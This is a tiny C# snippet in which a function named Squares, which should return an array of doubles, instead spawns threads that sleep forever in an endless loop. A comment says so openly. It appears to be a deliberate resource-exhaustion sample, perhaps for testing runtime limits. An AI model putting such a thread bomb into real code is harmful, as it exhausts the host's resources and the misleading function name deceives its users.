// Starts threads without end.
using System.Threading;
double[] Squares(int n)
{
    while (true) new Thread(() => Thread.Sleep(-1)).Start();
}
